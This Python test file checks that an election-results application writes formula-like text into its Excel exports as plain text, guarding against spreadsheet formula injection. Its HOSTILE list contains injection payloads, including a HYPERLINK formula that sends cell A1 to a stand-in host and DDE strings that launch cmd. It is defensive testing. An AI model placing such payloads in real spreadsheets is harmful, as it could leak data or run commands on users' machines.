"""Issue 16.9: text that starts like a formula is written as text in every .xlsx we produce.

Read back two ways: openpyxl's view of each cell, and the raw sheet XML (no `<f>` element
anywhere), because a cell openpyxl marks "f" is what Excel would evaluate on opening.
"""

import ast
import io
import re
import zipfile
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from daihoi.documents import xlsx
from daihoi.elections.result_xlsx import render_result_xlsx
from daihoi.people.exporting import RejectedRow, rejected_workbook
from tests.elections.test_minutes import result

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def formula_xml(data: bytes) -> list[str]:
    """Names of the sheets whose XML holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            n
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and FORMULA.search(archive.read(n))
        ]


def text_values(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.add(cell.value)
    return found


def assert_kept_as_text(data: bytes, values) -> None:
    assert formula_xml(data) == []
    assert set(values) <= text_values(data)


# Control characters other than tab/CR/LF cannot be stored in a sheet at all (openpyxl refuses).
PRINTABLE = st.characters(
    blacklist_categories=("Cs",),
    blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)],
)


@given(lead=st.sampled_from(xlsx.FORMULA_LEADS), rest=st.text(PRINTABLE, max_size=30))
def test_any_formula_like_text_goes_through_the_shared_helper_as_text(lead, rest):
    value = lead + rest
    book, sheet = xlsx.new_workbook("Trang")
    xlsx.write_table(sheet, 1, ["Tên"], [[value]], formats=[None])
    sheet.cell(row=10, column=1, value=value)  # written by hand, outside the helpers
    data = xlsx.workbook_bytes(book)
    assert formula_xml(data) == []
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == value.replace("\r\n", "\n").replace("\r", "\n") or cell.value == value


def test_ordinary_text_numbers_and_dates_are_left_alone():
    book, sheet = xlsx.new_workbook("Trang")
    xlsx.write_table(sheet, 1, ["A", "B"], [["Nguyễn Văn An", -3]], formats=[None, xlsx.INTEGER])
    cell_a, cell_b = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).active[2][:2]
    assert (cell_a.value, cell_a.quotePrefix) == ("Nguyễn Văn An", False)
    assert (cell_b.value, cell_b.data_type) == (-3, "n")


def test_the_results_workbook_keeps_hostile_names_and_titles_as_text():
    data = result()
    renames = dict(zip([c["name"] for c in data["candidates"]], HOSTILE, strict=False))
    for row in data["candidates"]:
        row["name"] = renames[row["name"]]
    data["elected"] = [renames.get(n, n) for n in data["elected"]]
    data["election"]["title"] = HOSTILE[0]
    data["place"] = HOSTILE[3]
    assert_kept_as_text(render_result_xlsx(data), list(renames.values()))


def test_the_rejected_rows_workbook_keeps_the_uploaded_text_as_text():
    rows = [
        RejectedRow(values=[value, "x"], bad_cells={0: "sai"}, reasons=["-thiếu"])
        for value in HOSTILE
    ]
    data = rejected_workbook({"DangVien": (["Họ tên", "Mã"], rows)})
    assert_kept_as_text(data, [*HOSTILE, "-thiếu"])


WORKBOOK_SAVES = re.compile(r"\.save\(")
ALLOWED = {
    # The one place that saves a workbook, after guard_workbook.
    "daihoi/documents/xlsx.py",
    # Write-only template: fixed labels and lists only, no stored text.
    "daihoi/people/excel_template.py",
    # Write-only rejected rows (text_cell) and the streamed member export (shared strings:
    # XML text cells by construction, never <f>; tested with the database in tests/people).
    "daihoi/people/exporting.py",
}


def test_no_module_saves_a_workbook_around_the_shared_helper():
    """Every other .xlsx is built by daihoi/documents/xlsx.py's workbook_bytes."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in sorted((root / "daihoi").rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        text = path.read_text(encoding="utf-8")
        builds = re.search(r"from openpyxl import .*\bWorkbook\b", text)
        if not builds or rel in ALLOWED or "/migrations/" in rel:
            continue
        tree = ast.parse(text)
        saves = [
            n.lineno
            for n in ast.walk(tree)
            if isinstance(n, ast.Call)
            and isinstance(n.func, ast.Attribute)
            and n.func.attr == "save"
        ]
        offenders += [f"{rel}:{line}" for line in saves]
    assert offenders == []
